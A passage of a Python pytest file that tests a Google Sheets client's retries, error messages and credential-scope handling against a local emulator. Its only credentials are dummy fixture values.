        open_book(book, max_attempts=2).read(["KPIs"])


def test_a_read_timeout_is_retried(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.fail(Fault.slow(2.0))
    workbook = open_book(book, timeout=(2.0, 0.2))
    assert workbook.read(["KPIs"])["KPIs"] == kpi_grid(3)
    assert sheets_emulator.count("values.batchGet") == 2


def test_retrying_stops_at_once_when_retry_after_exceeds_the_budget(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.fail(Fault.quota(retry_after="60"), times=10)
    started = time.monotonic()
    with pytest.raises(
        WorkbookError,
        match=r"HTTP 429 while reading 'KPIs', after 1 attempt"
        r".*retry budget spent.*Quota exceeded",
    ):
        open_book(book, retry_budget=30.0).read(["KPIs"])
    assert time.monotonic() - started < 2
    assert sheets_emulator.count() == 1


def test_retrying_stops_after_the_attempt_limit_and_names_the_status(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    workbook = open_book(book, max_attempts=3)
    workbook.read(["KPIs"])
    sheets_emulator.clear_log()
    sheets_emulator.fail(Fault.error(503, html=True), times=10, method="POST")
    with pytest.raises(
        WorkbookError,
        match=r"HTTP 503 while writing 1 range\(s\), after 3 "
        r"attempt\(s\).*temporary error",
    ):
        workbook.write([CellUpdate("KPIs", 2, 5, "OK")], [], [RowKey("KPIs", 2, ((1, "KPI 1"),))])
    assert sheets_emulator.count() == 6  # the key check, 3 attempts, a check before each retry


def test_a_connection_that_keeps_failing_is_reported_as_unreachable(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.fail(Fault.connection_reset(), times=10)
    with pytest.raises(
        WorkbookError,
        match=r"could not reach http://127\.0\.0\.1:\d+ while "
        r"reading 'KPIs', after 2 attempt",
    ):
        open_book(book, max_attempts=2).read(["KPIs"])


def test_a_tab_creation_whose_answer_was_lost_is_replayed_safely(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.fail(Fault.lost_response(), path=r"/spreadsheets/[^/]+:batchUpdate$")
    sync_once(open_book(book))
    assert sheets_emulator.tabs(book).count("Status") == 1
    assert len(sheets_emulator.sheet(book, "Status").conditional_formats) == len(COLOURS)
    assert sheets_emulator.grid(book, "Status")[1] == ["KPI 1", "OK"]


# -- Google's other refusals, each with its own message --------------------------------------
def test_a_range_google_refuses_in_a_write_is_named_with_google_s_reason(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    """Google names the refused item (``Invalid requests[1].updateCells: ...``); the message
    names its range instead, and says that nothing of that request was written."""
    workbook = open_book(book)
    workbook.read(TABS)
    keys = [RowKey("KPIs", 3, ((1, "KPI 2"),))]
    # a person deletes the empty rows below the KPIs after the key check, before the write
    sheets_emulator.before("batchUpdate", lambda: sheets_emulator.delete_rows(book, "KPIs", 6, 990))
    with pytest.raises(
        WorkbookError,
        match=r"^Google Sheets refused to write 'KPIs'!E40:E40: Range \(KPIs!E40\) exceeds grid "
        r"limits\. Max rows: 10, max columns: 26; nothing was written$",
    ):
        workbook.write([CellUpdate("KPIs", 3, 5, "OK"), CellUpdate("KPIs", 40, 5, "OK")], [], keys)
    assert sheets_emulator.grid(book, "KPIs") == kpi_grid(3)  # all or nothing


@pytest.mark.parametrize(
    ("google_said", "index", "said"),
    [
        (
            "Invalid data[3]: Unable to parse range: 'Nope'!A1",
            3,
            "Unable to parse range: 'Nope'!A1",
        ),
        ("Invalid requests[0].updateCells: No grid with id: 7", 0, "No grid with id: 7"),
    ],
)
def test_a_write_error_keeps_the_index_google_gives_it(
    google_said: str, index: int, said: str
) -> None:
    error = bad_request("writing 4 range(s)", google_said)
    assert isinstance(error, WriteRefused)
    assert (error.index, error.said) == (index, said)


def test_an_office_file_stored_in_drive_is_named_with_the_two_ways_out(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.as_office_file(book)
    with pytest.raises(
        WorkbookError,
        match=r"Office file \(\.xlsx\) stored in Google Drive.*This operation is not supported "
        r"for this document.*File > Save as Google Sheets.*backend = \"xlsx\"",
    ):
        open_book(book).read(["KPIs"])
    assert [r.status for r in sheets_emulator.requests] == [400]  # not retried


def test_a_request_without_a_valid_token_is_a_credentials_problem(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str
) -> None:
    sheets_emulator.check_tokens()
    with pytest.raises(
        WorkbookError,
        match=r"^Google rejected the credentials while reading 'KPIs': Request had invalid "
        r"authentication credentials\..*; check \[workbook\] credentials$",
    ):
        open_book(book).read(["KPIs"])  # no credentials on loopback: no token at all
    assert [r.status for r in sheets_emulator.requests] == [401]


@pytest.mark.parametrize("kind", ["service_account", "external_account"])
def test_credentials_ask_google_s_token_endpoint_for_the_sheets_scope(
    sheets_emulator: SheetsEmulator,
    open_book: Opener,
    book: str,
    credential_files: dict[str, Path],
    kind: str,
) -> None:
    sheets_emulator.check_tokens()
    assert open_book(book, credentials=credential_files[kind]).read(["KPIs"])["KPIs"] == kpi_grid(3)


def test_a_token_without_the_sheets_scope_says_how_to_sign_in_with_it(
    sheets_emulator: SheetsEmulator, open_book: Opener, book: str, tmp_path: Path
) -> None:
    """gcloud's application-default login without --scopes grants cloud-platform only."""
    sheets_emulator.check_tokens()
    sheets_emulator.grant("adc-token", {"https://www.googleapis.com/auth/cloud-platform"})
    creds = tmp_path / "application_default_credentials.json"
    creds.write_text(
        json.dumps(
            {
                "type": "authorized_user",
                "client_id": "c",
                "client_secret": "s",
                "refresh_token": "r",
                "token": "adc-token",
                "expiry": "2999-01-01T00:00:00Z",
            }
        )
    )
    with pytest.raises(
        WorkbookError, match=r"insufficient authentication scopes.*sign in again with --scopes="
    ):
        open_book(book, credentials=creds).read(["KPIs"])
    assert [r.status for r in sheets_emulator.requests] == [403]
